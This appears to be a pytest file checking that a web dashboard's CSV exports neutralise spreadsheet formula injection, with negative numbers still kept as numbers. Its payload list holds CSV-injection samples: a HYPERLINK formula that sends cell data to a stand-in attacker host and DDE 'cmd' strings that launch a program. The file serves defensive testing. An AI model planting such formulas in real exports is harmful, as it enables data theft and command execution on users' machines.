"""Every CSV the app writes opens in a spreadsheet as data: a text cell starting with a formula
character is prefixed with a single quote (OWASP), numbers stay numbers."""
import csv
import io

import pytest
from helpers import sample_row

from webapp.dashboard import actions
from webapp.dashboard.actions import Record
from webapp.dashboard.reports.spreadsheet_safe import FORMULA_START, safe_cell

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_each_formula_start_is_quoted_and_plain_values_are_not():
    assert {p[0] for p in PAYLOADS} == set(FORMULA_START)  # guard: every leading character tried
    for p in PAYLOADS:
        assert safe_cell(p) == "'" + p
    for plain in ("What is 2 + 3?", "'already quoted", "", "5", "a=b"):
        assert safe_cell(plain) == plain
    for number in (-0.5, -3, 0.25, 7):
        assert safe_cell(number) == number


def _rows(response) -> list[dict]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode(), newline="")))


def test_samples_csv_quotes_formulas_in_prompts_completions_and_errors(alice, user, make_run):
    run = make_run(user, "finished")
    rows = [sample_row(1, group=g, index=0, prompt=p, completion=p, reward=-0.5,
                       reward_error=p, reward_status="error", advantage=-1.25)
            for g, p in enumerate(PAYLOADS)]
    actions.append(run.pk, [Record("samples", 1, "", {"rows": rows})], {"step": 1})

    got = _rows(alice.get(f"/api/runs/{run.pk}/export?format=samples_csv"))
    assert len(got) == len(PAYLOADS)
    for g in got:
        payload = PAYLOADS[int(g["group"])]
        for column in ("prompt", "completion", "reward_error"):
            assert g[column] == "'" + payload, column
        # negative numbers are numbers, not formulas: written bare, read back exactly
        assert float(g["reward"]) == -0.5 and float(g["advantage"]) == -1.25


def test_metrics_csv_quotes_formula_keys_and_keeps_negative_values(alice, user, make_run):
    run = make_run(user, "finished")
    actions.append(run.pk, [Record("points", 1, "", {"=1+1": -2.5, "reward/mean": -0.125})],
                   {"step": 1})

    got = {g["key"]: g["value"] for g in _rows(alice.get(f"/api/runs/{run.pk}/export?format=csv"))}
    assert got == {"'=1+1": "-2.5", "reward/mean": "-0.125"}
